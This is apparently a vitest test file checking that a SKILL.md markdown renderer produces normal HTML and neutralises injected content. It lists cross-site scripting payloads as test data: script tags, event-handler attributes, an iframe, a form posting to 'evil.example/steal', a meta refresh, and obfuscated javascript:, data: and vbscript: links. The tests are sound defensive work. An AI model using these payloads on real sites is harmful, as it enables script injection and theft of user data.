// The skill page's SKILL.md rendering: markdown as a reader expects it, and every HTML or URL
// payload an attacker can put in a SKILL.md rendered inert (issue "Skills that live").
import { describe, expect, it } from "vitest";
import { LINK_REL, renderSkillMd, skillMdBody } from "@/lib/catalog/render-skill-md";

const fm = "---\nname: Harbor Markup\ndescription: Renders harbour notices for the berth crew.\n---\n";

describe("renderSkillMd", () => {
  it("renders headings, lists, code, tables and task lists; the frontmatter is not shown", () => {
    const html = renderSkillMd(`${fm}# Tide tables\n\n## Steps\n\n- read\n- write\n\n1. one\n\n\`\`\`sh\necho "06:12"\n\`\`\`\n\n| berth | depth |\n|---|---|\n| 4 | 12 m |\n\n- [x] checked\n`);
    expect(html).toContain("<h1>Tide tables</h1>");
    expect(html).toContain("<h2>Steps</h2>");
    expect(html).toMatch(/<ul>\s*<li>read<\/li>/);
    expect(html).toContain("<ol>");
    expect(html).toContain('<pre><code class="language-sh">echo &quot;06:12&quot;');
    expect(html).toContain("<table>");
    expect(html).toContain('type="checkbox"');
    expect(html).not.toContain("description:");
  });

  it.each([
    ["a script element", "<script>alert(1)</script>"],
    ["an event handler", '<img src=x onerror="alert(1)">'],
    ["an svg with onload", "<svg onload=alert(1)><circle r=5 /></svg>"],
    ["an iframe", '<iframe src="https://evil.example/frame"></iframe>'],
    ["a form", '<form action="https://evil.example/steal"><input name=q><button>go</button></form>'],
    ["a style element", "<style>body{display:none}</style>"],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["an inline block of HTML", '<div onclick="alert(1)">\n\n**bold**\n\n</div>'],
  ])("shows %s as text, never as markup", (_label, payload) => {
    const html = renderSkillMd(`${fm}${payload}\n`);
    expect(html).not.toMatch(/<(script|iframe|form|input|button|style|meta|svg|div)\b/i);
    expect(html).not.toMatch(/<[^>]+\son\w+=/i);
    expect(html).toContain("&lt;");
  });

  it.each([
    ["javascript: link", "[click](javascript:alert(1))"],
    ["JavaScript: with case and entities", "[click](JaVaScRiPt&#58;alert(1))"],
    ["data: link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["vbscript: link", "[click](vbscript:msgbox(1))"],
    ["javascript: autolink", "<javascript:alert(1)>"],
  ])("drops a %s", (_label, payload) => {
    const html = renderSkillMd(`${fm}${payload}\n`);
    expect(html).not.toMatch(/href="[^"]*(javascript|data|vbscript):/i);
  });

  it("external links are marked noopener nofollow ugc; images become links (no request off the page)", () => {
    const html = renderSkillMd(`${fm}[docs](https://docs.example/a) and <https://auto.example>\n\n![tracker](https://tracker.example/p.png)\n\n![inline](data:image/png;base64,AAAA)\n`);
    expect(html).toContain(`<a href="https://docs.example/a" rel="${LINK_REL}">docs</a>`);
    expect(html).toContain(`<a href="https://auto.example" rel="${LINK_REL}">`);
    expect(html).not.toContain("<img");
    expect(html).toContain(`<a href="https://tracker.example/p.png" rel="${LINK_REL}" class="skill-md-image">image: tracker</a>`);
    expect(html).not.toContain("data:image");
    for (const a of html.match(/<a [^>]*>/g) ?? []) expect(a).toContain(`rel="${LINK_REL}"`);
  });

  it("takes the body after the frontmatter, or the whole text when there is none", () => {
    expect(skillMdBody(`${fm}# Body\n`)).toBe("# Body\n");
    expect(skillMdBody("# Only a body\n")).toBe("# Only a body\n");
  });
});
